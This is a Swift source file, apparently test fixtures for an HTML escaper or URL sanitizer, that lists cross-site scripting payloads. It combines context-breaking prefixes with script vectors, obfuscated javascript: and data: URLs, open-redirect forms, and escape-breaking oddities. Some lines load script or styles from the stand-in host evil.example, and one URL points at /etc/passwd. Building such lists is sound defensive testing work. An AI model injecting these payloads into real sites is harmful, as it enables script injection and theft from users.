/// Texts that would run script if a page wrote them unescaped into the wrong place.
package enum HostileText {
    package static let all = breakouts + urls + oddities

    /// Each way to end a context followed by each way to run script.
    private static let breakouts = contextEndings.flatMap { ending in vectors.map { ending + $0 } }

    private static let contextEndings = [
        "", "\">", "'>", "\"><!--", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "\"/><p title=\"",
        "`>",
    ]

    private static let vectors = [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<a href=javascript:alert(1)>x</a>",
        "<style>@import'//evil.example'</style>", "<base href=//evil.example/>", "<body onload=alert(1)>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<x onclick=alert(1) id=x>",
        "<form><button formaction=javascript:alert(1)>x", "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "\" onmouseover=\"alert(1)\" x=\"", "' onfocus='alert(1)' autofocus x='",
    ]

    /// URLs that no page may link to, and some that are only unusual.
    private static let urls = [
        "javascript:alert(1)", "JavaScript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
        "\tjavascript:alert(1)",
        "\njavascript:alert(1)", "\u{01}javascript:alert(1)", "\u{00}javascript:alert(1)", "java\tscript:alert(1)",
        "java\nscript:alert(1)", "java\rscript:alert(1)", "java\u{00}script:alert(1)", "javascript\t:alert(1)",
        "javascript :alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "jav&#x09;ascript:alert(1)", "jav&Tab;ascript:alert(1)",
        "jav&NewLine;ascript:alert(1)", "javascript://example.org/%0aalert(1)", "javascript:/*--></title>*/alert(1)",
        "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "ｊavascript:alert(1)", "java\u{200B}script:alert(1)",
        "\u{FEFF}javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "VbScript:msgbox(1)", "livescript:alert(1)",
        "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "blob:null/1",
        "file:///etc/passwd", "filesystem:http://x/", "about:srcdoc", "ftp://evil.example/", "tel:1",
        "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example",
        "/\t/evil.example",
        "/\n/evil.example", " //evil.example", "http:evil.example", "https:/evil.example", "http:\\\\evil.example",
        "http//:evil", "://evil.example", ":javascript:alert(1)", "?javascript:alert(1)", "#javascript:alert(1)",
        "/%2Fevil.example", "mailto:a@b.example?body=\"><script>alert(1)</script>",
        "https://example.org/\"onmouseover=\"alert(1)", "https://example.org/'><script>alert(1)</script>",
        "https://example.org/ onload=alert(1)", "HTTPS://example.org/`onload=alert(1)",
    ]

    /// Texts that break careless escapes.
    private static let oddities = [
        "&", "&amp;lt;script&amp;gt;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3C", "&", "&&",
        "&;", "&#;",
        "<", ">", "\"", "'", "`", "=", "/", "/>", "<!", "<?", "</", "<!--", "<!-->", "--!>", "<![CDATA[", "]]>", "\\",
        "\\\"", "\\'",
        "\u{00}", "\u{08}", "\u{0B}", "\u{0C}", "\u{1B}", "\u{7F}", "\u{2028}<script>", "\u{2029}", "\u{FFFE}",
        "\u{202E}<script>",
        "＜script＞alert(1)＜/script＞", "﹤script﹥", "<\u{0338}script>", "e\u{0301}<b>", "한글<b>", "👩‍👩‍👧‍👦\"", "{{ 1 + 1 }}",
        "{% end %}", "${alert(1)}",
        "'-alert(1)-'", "\";alert(1);//", "');alert(1);//", "expression(alert(1))", "url(javascript:alert(1))",
        "x\" y=\"1\" x=\"2", "x' y='1", "x\ty=z", "x\ny=z", "<a\u{0C}href=javascript:alert(1)>", "<a\u{0B}b>",
        "<%= 1 %>", "<#if>",
    ]
}
